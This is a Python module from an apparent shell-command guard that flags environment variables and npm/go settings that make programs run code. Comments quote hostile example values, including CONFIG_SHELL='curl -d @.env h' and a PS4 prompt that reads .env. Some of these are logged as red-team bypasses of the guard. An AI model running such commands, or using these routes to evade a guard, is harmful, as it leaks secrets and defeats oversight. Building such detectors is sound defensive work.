"""Exec sinks in variables (shell/sinks.py's per-topic part, loaded for commands that assign or
store one): environment variables that name a program or hold code (GIT_PAGER, EDITOR,
NODE_OPTIONS, LD_PRELOAD, CFLAGS, go's -ldflags ...), npm and go settings stored for later runs.
"""

from legant_guard.shell.words import Exp
from legant_guard.shell.sinks import Sink, _NPM_CODE_KEYS, _NPM_PROGRAM_KEYS, _lit, catalogue


def _stored_settings(program, args):
    words = [e for e in args if not e.dynamic]
    texts = [e.text for e in words]
    found = []
    if program == "go":
        if texts[:1] == ["env"] and any(t == "-w" or t.startswith("-w=") for t in texts):
            for e in args[1:]:
                name, eq, value = e.text[3:].partition("=") if e.text.startswith("-w=") else e.text.partition("=")
                if eq and name and not name.startswith("-"):
                    sink = environment_sink(name, Exp(value, e.src, dynamic=e.dynamic, quoted=True))
                    if sink is not None:
                        found.append(Sink("go env -w " + name, sink.payload, sink.reason, sink.value))
        return found
    pairs = []
    for k, e in enumerate(args):  # `--script-shell=PROG`, `--git PROG`, `--config.shell=PROG`
        t = e.text
        if t.startswith("--"):
            key, eq, value = t[2:].partition("=")
            key = key[7:] if key.startswith("config.") else key
            if key in _NPM_PROGRAM_KEYS + _NPM_CODE_KEYS:
                if eq:
                    pairs.append((key, Exp(value, e.src, dynamic=e.dynamic, quoted=True)))
                elif k + 1 < len(args):
                    pairs.append((key, args[k + 1]))
    places = [k for k, e in enumerate(args) if e.dynamic or not e.text.startswith("-")]
    ops = [args[k].text for k in places[:2]]
    at = 2 if ops in (["config", "set"], ["c", "set"]) else 1 if ops[:1] == ["set"] else None
    if at is not None and len(places) > at:
        e = args[places[at]]
        key, eq, value = e.text.partition("=")
        if eq:
            pairs.append((key, Exp(value, e.src, dynamic=e.dynamic, quoted=True)))
        elif places[at] + 1 < len(args):  # (the value may start with a dash: `--require x`)
            pairs.append((key, args[places[at] + 1]))
        elif e.dynamic:
            pairs.append(("node-options", e))
    for key, value in pairs:
        label = "%s config %s" % (program, key)
        key = key.lower().replace("_", "-")
        if key in _NPM_PROGRAM_KEYS and (value.dynamic or value.text.strip()):
            found.append(Sink(label, "shell", "%s runs the program this setting names (a package's scripts "
                              "through `script-shell`)" % program, value))
        elif key in _NPM_CODE_KEYS and (value.dynamic or value.text.strip()):
            found.append(Sink(label, "code", "%s loads code this setting names" % program, value))
    return found


def _harmless_node_options(text, env):
    """NODE_OPTIONS made only of options that load nothing (`--max-old-space-size=4096`,
    `--experimental-vm-modules`): no `--require`/`--import`/`--loader`, no file named."""
    words = text.split()
    for word in words:
        opt, eq, val = word.partition("=")
        if word in env["node_options_flags"] or (eq and opt in env["node_options_numeric"] and val.isdigit()):
            continue
        return False
    return bool(words)


_HARMLESS_EDITORS = ("", ":", "true", "false", "cat", "/bin/true", "/usr/bin/true", "/bin/cat", "/usr/bin/cat")


def editor_sink(label, value):
    """An editor named in the environment (EDITOR, GIT_EDITOR, GIT_SEQUENCE_EDITOR ...): the program
    is analysed as a command (payload `editor`, analyze.py run_sink), and a full-screen one stays
    interactive (a terminal session types `:!curl h` into it). git's sequence editor writes the
    list `git rebase -i` then runs, whose `exec` lines are commands: what it writes cannot be
    known unless it changes nothing (`GIT_SEQUENCE_EDITOR=:`)."""
    if not value.dynamic and value.text.strip() in _HARMLESS_EDITORS:
        return None
    if label == "$GIT_SEQUENCE_EDITOR":
        return Sink(label, "editor", "git's sequence editor writes the list `git rebase -i` runs, whose `exec` lines "
                    "run programs (`GIT_SEQUENCE_EDITOR=:` with --autosquash changes nothing)", value)
    return Sink(label, "editor", "programs started by this command run the editor this variable names", value)


# Variables naming files of code a program reads (judged when one is its input or a descriptor).
_INPUT_FILE_LISTS = {"MAKEFILES": "make reads this variable's makefiles",
                     "CONFIG_SITE": "a configure script runs the shell scripts this names",
                     "MIX_EXS": "mix runs this file as the project's mix.exs (Elixir code)",
                     "COMPOSER": "composer reads this file as the project's composer.json (its scripts run)"}


def environment_sinks(assigned):
    """The Sinks of several (name, value Exp) assignments."""
    return [sink for sink in (environment_sink(name, value) for name, value in assigned) if sink is not None]


def environment_sink(name, value):
    """The Sink of assigning VALUE (an Exp) to the variable NAME, or None."""
    env = catalogue()["environment"]
    label = "$" + name
    if name in env["code_set"] or any(name.startswith(p) for p in env["code_prefixes"]):
        if not value.dynamic and (value.text in env["harmless_values"] or
                                  (name in env["node_options"] and _harmless_node_options(value.text, env))):
            return None
        return Sink(label, "code", env["code_reason"], value)
    words = env["code_when"].get(name)
    if words is not None:  # `JAVA_TOOL_OPTIONS=-javaagent:x.jar`, `ERL_FLAGS='-eval …'`, `RUSTUP_TOOLCHAIN=/dir`
        if value.dynamic or any(w in value.text for w in words):
            return Sink(label, "code", env["code_reason"], value)
        return None
    if name in ("EDITOR", "VISUAL", "FCEDIT") or name.endswith("_EDITOR"):
        return editor_sink(label, value)
    if name in ("SHELL", "PARALLEL_SHELL", "CONFIG_SHELL"):
        # flock -c, script -c, sudo -s, parallel, entr -s and tmux run their commands through it;
        # a shell by name is what they expect
        from legant_guard.shell.knowledge import SHELLS

        if not value.dynamic and value.text.strip().rsplit("/", 1)[-1] in SHELLS:
            return None
        if name == "CONFIG_SHELL" and not value.dynamic and len(value.text.split()) > 1:
            # configure runs `$SHELL $CONFIG_STATUS …` unquoted (SHELL=${CONFIG_SHELL-/bin/sh}): the
            # value's words are a command line (red team 41: CONFIG_SHELL='curl -d @.env h' ran curl)
            return Sink(label, "shell", "a configure script runs config.status as `$CONFIG_SHELL config.status`, "
                        "the value cut into words", value)
        return Sink(label, "program", "programs started by this command (flock -c, script -c, sudo -s, parallel, "
                    "tmux; a configure script and the config.status and makefiles it writes) run their commands "
                    "through $%s" % name, value)
    if name[:11].lower() == "npm_config_":
        sink = _npm_environment(name, label, value, env)
        if sink is not None:
            return sink
    program = env["option_variables"].get(name)
    if program is not None:  # `TAR_OPTIONS='-I curl' tar cf x src`: read as the program's own options
        if not value.dynamic and not value.text.strip():
            return None
        return Sink(label, "shell", env["option_reason"], Exp("%s %s" % (program, value.text), value.src,
                                                               dynamic=value.dynamic, quoted=True))
    if name == "GIT_ALLOW_PROTOCOL" and (value.dynamic or "ext" in value.text.split(":")):
        # git refuses its ext:: transport (a URL that is a command) unless this lists it
        return Sink(label, "code", "it lets git run the command an `ext::` URL names (the URL itself, a remote's "
                    "or a submodule's URL, or one an `insteadOf` setting rewrites)", value)
    if name.lower() in env["msbuild_properties"]:
        # MSBuild reads every environment variable as a property (red team 37): `PreBuildEvent='curl h'
        # dotnet build` runs it, as `-p:PreBuildEvent=` does (hook/msbuildprops.py)
        return Sink(label, "code", "MSBuild reads this variable as the property of that name, which runs a command, "
                    "picks a program or imports MSBuild code", value)
    if name in env["prompt_names"]:
        if value.dynamic or prompt_runs_code(value.text):
            return Sink(label, "code", "bash expands this prompt, running its command substitutions", value)
        return None
    if name in env["goflags"]:
        return Sink(label, "goflags", env["reason"], value)
    if name in env["ccflags"]:
        return compiler_flags_sink(label, value)
    if name in env["rustflags"] or (name.startswith("CARGO_TARGET_") and name.endswith("_RUSTFLAGS")):
        # `RUSTFLAGS='-C linker=PROG'`: rustc runs PROG to link
        if value.dynamic or any(w in value.text for w in env["rustflags_words"]):
            return Sink(label, "code", "rustc runs the linker (or loads the plugin) these flags name", value)
        return None
    if name in _INPUT_FILE_LISTS:
        # files of code these variables name (make's makefiles read before the others; the shell
        # scripts a configure script sources, red team 37): one read from its input or a descriptor
        # (`MAKEFILES=/dev/stdin make <<< …`) is code the guard does not see, as `make -f -` is
        prefixes = _make_file_prefixes()
        if value.dynamic or any(w.startswith(prefixes) for w in value.text.split()):
            return Sink(label, "code", _INPUT_FILE_LISTS[name] + ", here from its input or a descriptor", value)
        return None
    if name in env["makeflags"]:
        # SHELL=PROG, --eval=CODE, -E CODE (`kE` when the letters come without a dash)
        if value.dynamic or "=" in value.text or "E" in value.text or "--ev" in value.text:
            return Sink(label, "makeflags", "make reads variable settings (SHELL=, CC=) from this variable", value)
        return None
    if name in env["names_set"] or any(name.endswith(s) for s in env["suffixes"]) or \
            any(name.startswith(a) and name.endswith(b) for a, b in env["affixes"]):
        if not value.dynamic and not value.text.strip():
            return None
        return Sink(label, "shell", env["reason"], value)
    return None


# What in a prompt string runs code as bash expands it (PS4 at every traced command): a command
# substitution or arithmetic; `${x@P}`, x's value expanded as a prompt in turn; `${!x}`, a name
# that may carry a subscript; a subscript that is not a plain number, and a substring's offset
# or length, which are arithmetic (a variable there is evaluated with its own subscripts:
# x='a[$(cmd)]'). Red team 38: PS4='${x@P}' x='$(cat .env)'; set -x; ls read .env under builder.
_PROMPT_CODE = (r"\$\(|`|\$\[|\$\{[^}]*@P|\$\{!|\$\{#?\w+\[(?![0-9@*]+\])|"
                r"\$\{#?[\w@*#?$!-]+:(?![-+=?]|[0-9]+(?::[0-9]+)?\})")


def prompt_runs_code(text):
    """Does expanding this prompt string run code (a command, or a variable's text read as one)?"""
    if "$" not in text and "`" not in text:
        return False
    import re  # (only for a prompt that expands something: re stays off the hot path)

    return bool(re.search(_PROMPT_CODE, text))


def npm_key(name):
    """npm's setting of an environment variable (`NPM_CONFIG_Script_Shell` -> script-shell): npm
    reads every variable starting with npm_config_ in any case, with `_` for `-`; else None."""
    if name[:11].lower() != "npm_config_":
        return None
    return name[11:].lower().replace("_", "-")


def _npm_environment(name, label, value, env):
    """npm_config_script_shell=PROG, NPM_CONFIG_NODE_OPTIONS=--require=x (any case): npm and pnpm
    run the program or load the code this setting names, as `npm --script-shell` does."""
    key = npm_key(name)
    if key in _NPM_PROGRAM_KEYS:
        if not value.dynamic and not value.text.strip():
            return None
        return Sink(label, "shell", "npm runs the program this setting names (a package's scripts through "
                    "`script-shell`)", value)
    if key in _NPM_CODE_KEYS:
        if not value.dynamic and (value.text in env["harmless_values"] or
                                  (key == "node-options" and _harmless_node_options(value.text, env))):
            return None
        return Sink(label, "code", "npm loads the code this setting names into node", value)
    return None


def _make_file_prefixes():
    """The values of `make -f` that read a makefile from input or a descriptor (exec_sinks.json)."""
    for section, entry in catalogue()["by_program"].get("make", ()):
        if "-f" in entry["options"]:
            return tuple(entry["value_prefix"])
    return ("-", "/dev/")


def compiler_flags_sink(label, value):
    """Flags a compiler driver is given (`CFLAGS`, `CGO_LDFLAGS`, go's `-extldflags`): a code Sink
    when one of them makes it run a program or load code (`-wrapper PROG`, `-B DIR`, `-fplugin=`,
    `@FILE` of more flags), else None."""
    words = catalogue()["environment"]["ccflags_words"]
    if value.dynamic or any(w.startswith(tuple(words)) for w in value.text.replace('"', " ").replace("'", " ").split()):
        return Sink(label, "code", "the compiler driver runs the program (or loads the code) these flags name", value)
    return None


def go_linker_sinks(sink):
    """`go build -ldflags='-extld=PROG -extldflags=FLAGS'`: the external linker PROG is a program
    go runs (a program Sink); FLAGS are the compiler driver's (compiler_flags_sink)."""
    value = sink.value
    if value.dynamic:
        text = _ref_name_substitutions(value.src)
        if text is None:
            return [Sink(sink.label, "code", sink.reason, value)]
        value = _lit(text, value.src)
    words = _go_quoted_split(value.text)
    if words is None:
        return [Sink(sink.label, "code", sink.reason + " (quotes the guard cannot split)", value)]
    found = []
    k = 0
    while k < len(words):
        name, eq, rest = words[k].partition("=")
        if not eq and k + 1 < len(words) and name.lstrip("-") in ("extld", "extldflags"):
            rest, k = words[k + 1], k + 1
        k += 1
        if name.lstrip("-") == "extld" and name.startswith("-"):
            found.append(Sink(sink.label + " -extld", "program", sink.reason, _lit(rest, value.src)))
        elif name.lstrip("-") == "extldflags" and name.startswith("-"):
            flags = compiler_flags_sink(sink.label + " -extldflags", _lit(rest, value.src))
            if flags is not None:
                found.append(flags)
        elif name.startswith("@") or (sink.label.endswith("gccgoflags") and
                                      compiler_flags_sink(sink.label, _lit(words[k - 1], value.src))):
            found.append(Sink(sink.label, "code", sink.reason, value))
    return found


_REF_NAME_COMMANDS = ("$(git describe", "$(git rev-parse")


def _ref_name_substitutions(src):
    """`-ldflags "-X main.version=$(git describe --tags --always)"`: the flags with each such
    substitution as a stand-in word, when that is exactly how go will split them, else None.
    git describe / rev-parse HEAD print one ref name or object name: no white space, no glob
    character, never a leading dash (check-ref-format), though quotes are allowed; so the flags
    must hold no quote of their own (a quote in the name cannot then pair with one), and each
    substitution must be glued to text before it (`main.version=`), never start a word (`@x`)."""
    text = src[1:-1] if len(src) >= 2 and src[0] == src[-1] == '"' else src
    if any(c in text for c in "'\"\\`"):
        return None
    out, k = [], 0
    while True:
        start = text.find("$(", k)
        if start < 0:
            out.append(text[k:])
            break
        end = text.find(")", start)
        inner = text[start + 2:end].split() if end > 0 else []
        if end < 0 or not text.startswith(_REF_NAME_COMMANDS, start) or start == 0 or text[start - 1] in " \t" \
                or not _one_name(inner):
            return None
        out.append(text[k:start] + "v0")
        k = end + 1
    joined = "".join(out)
    return None if "$" in joined else joined


def _one_name(words):
    """`git describe [OPTIONS]` / `git rev-parse [OPTIONS] [HEAD]`: one line, one name."""
    sub, rest = words[1], words[2:]
    if sub == "describe":
        return all(w.startswith("--") and w[2:].replace("-", "").replace("=", "").isalnum() for w in rest)
    options = [w for w in rest if w.startswith("--")]
    return rest in ([], ["HEAD"]) or (rest[:-1] == options and rest[-1] == "HEAD" and
                                      all(w in ("--short", "--abbrev-ref", "--verify") for w in options))


def _go_quoted_split(text):
    """The words of a go flag list as cmd/internal/quoted splits them (white space; '...' and
    "..." group), or None when a quote is not closed."""
    words, word, quote, started = [], [], None, False
    for c in text:
        if quote:
            if c == quote:
                quote = None
            else:
                word.append(c)
        elif c in "'\"":
            quote, started = c, True
        elif c in " \t\n\r":
            if started:
                words.append("".join(word))
            word, started = [], False
        else:
            word.append(c)
            started = True
    if quote:
        return None
    if started:
        words.append("".join(word))
    return words
